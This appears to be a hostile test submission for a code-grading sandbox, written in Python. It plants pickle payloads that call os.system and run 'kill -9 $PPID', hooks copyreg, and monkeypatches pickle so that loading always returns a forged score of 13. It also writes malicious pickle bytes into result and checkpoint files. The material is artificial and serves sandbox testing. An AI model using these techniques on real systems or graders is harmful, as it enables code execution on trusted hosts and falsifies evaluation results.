"""Fills the namespace and the records with objects that run code, or forge a result, when they are unpickled.

Gains: code on the trusted side, if anything of the student's were ever pickled and read there.
"""

# %% [reshape]
import copyreg
import os
import pickle


class Forger:
    def __reduce__(self):
        return os.system, ("echo forged >> {{ output }}/forged-by-pickle; kill -9 $PPID",)


copyreg.pickle(dict, lambda value: (os.system, ("true",)))
pickle.dumps = pickle.dump = lambda *arguments, **options: b"cos\nsystem\n(S'true'\ntR."
pickle.loads = pickle.load = lambda *arguments, **options: {"score": 13}
X_train = np.array([Forger()] * 600, dtype=object)
X_test = Forger()
for name in ("checkpoints.pkl", "result.pickle", "namespace.dill", "rows-1.npz", "weights-1-1.npz", "calls-1.npz"):
    with open(os.path.join(".out", name), "wb") as file:
        file.write(b"\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.")
